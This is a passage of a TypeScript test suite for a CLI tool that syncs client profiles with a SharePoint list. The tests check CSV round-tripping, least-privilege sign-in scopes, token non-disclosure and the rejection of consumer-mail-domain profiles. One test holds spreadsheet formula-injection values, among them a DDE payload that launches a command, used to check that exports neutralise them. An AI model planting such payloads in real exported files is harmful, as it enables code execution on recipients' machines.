    const back = parseProfileFile(csv, first).profiles.find((p) => p.matchKey === "@evil.example")!;
    expect(back).toMatchObject({
      title: HOSTILE[0]!.title,
      clientName: "+44 20 7946 0000",
      preferredName: "-Minus",
      fullName: "@SUM(1+1)",
      competitors: ["=cmd|' /C calc'!A0", "Pepsi"],
      notes: "'=already quoted",
      statusUpdates: "'plain apostrophe",
    });

    // Re-importing the export into the list it came from changes nothing.
    const again = await run(["import", first, ...site()]);
    expect(again.out).toContain("0 created, 0 updated, 7 unchanged");
  });
});

describe("least privilege at the command line", () => {
  it.each([
    [["export"], false, "Sites.Read.All"],
    [["check", "examples/drafts/fedex-to-ups.eml"], false, "Sites.Read.All"],
    [["import", "assets/sample-profiles.json"], false, "Sites.ReadWrite.All"],
    [["provision"], false, "Sites.Manage.All"],
    [["export"], true, "Sites.Selected"],
    [["import", "assets/sample-profiles.json"], true, "Sites.Selected"],
    [["provision"], true, "Sites.Manage.All"],
  ])("%j (Sites.Selected: %s) signs in for %s only", async (args, selected, scope) => {
    delete process.env[TOKEN_ENV];
    seedList(standIn);
    mockToken = standIn.token;
    mockScopes.length = 0;
    const result = await run([
      ...args.map((a) => (a.includes("/") ? join(ROOT, a) : a)),
      ...site(),
      "--client-id",
      "11111111-2222-3333-4444-555555555555",
      ...(selected ? ["--sites-selected"] : []),
    ]);
    expect([0, 1]).toContain(result.code);
    expect(new Set(mockScopes.flat())).toEqual(new Set([scope]));
  });
});

// Declared last, so it runs after every command above: the bar is no token in any output.
it("never printed the token in any output of any command above", () => {
  expect(everything.length).toBeGreaterThan(20);
  expect(everything.join("")).not.toContain("eyJ-secret-token");
});

describe("organisation profiles at a consumer mail provider (round 48 leftover: stored @ISP profiles)", () => {
  function jsonFile(profiles: unknown[]): string {
    const file = join(temp(), "clients.json");
    writeFileSync(file, JSON.stringify(profiles));
    return file;
  }
  const keys = () => standIn.findList(LIST)!.items.map((i) => String(i.fields.MatchKey));

  it.each([["@gmail.com"], ["@t-online.de"], ["@GMX.net"]])(
    "import refuses %s and writes nothing",
    async (key) => {
      seedList(standIn);
      const before = keys();
      const file = jsonFile([
        { matchKey: key, avoidChannels: ["phone"] },
        { matchKey: "@newclient.example", competitors: ["Globex"] },
      ]);

      const result = await run(["import", file, ...site()]);

      expect(result.code).toBe(1);
      expect(result.err).toContain(
        `${key.toLowerCase()} is an organisation profile at a consumer mail provider: it would apply to everyone who writes from ${key.slice(1).toLowerCase()}`,
      );
      expect(result.err).toContain("nothing imported");
      expect(keys()).toEqual(before);
    },
  );

  it("with --skip-invalid imports the other rows and still leaves the provider's out", async () => {
    seedList(standIn);
    const file = jsonFile([
      { matchKey: "@hotmail.com", avoidChannels: ["phone"] },
      { matchKey: "jo.bloggs@hotmail.com", avoidChannels: ["phone"] },
      { matchKey: "@newclient.example", competitors: ["Globex"] },
    ]);

    const result = await run(["import", file, "--skip-invalid", ...site()]);

    expect(result.code).toBe(1);
    expect(keys()).toEqual(expect.arrayContaining(["jo.bloggs@hotmail.com", "@newclient.example"]));
    expect(keys()).not.toContain("@hotmail.com");
  });

  it("import lets a person at a provider and an organisation merely named like one through", async () => {
    seedList(standIn);
    const file = jsonFile([
      { matchKey: "jo.bloggs@gmail.com", preferredName: "Jo" },
      { matchKey: "@gmailbox-legal.example", competitors: ["Globex"] },
    ]);

    const result = await run(["import", file, ...site()]);

    expect(result.err).not.toContain("consumer mail provider");
    expect(result.code).toBe(0);
  });

  it("export names a stored provider profile on stderr and still writes it", async () => {
    const list = seedList(standIn);
    standIn.addItem(list, { MatchKey: "@t-online.de", AvoidChannels: "phone" });

    const result = await run(["export", ...site()]);

    expect(result.out).toContain('"@t-online.de"');
    expect(result.err).toContain(
      "warning: @t-online.de is an organisation profile at a consumer mail provider",
    );
    expect(result.err).toContain("then delete this item.");
    expect(result.code).toBe(0);
  });
});
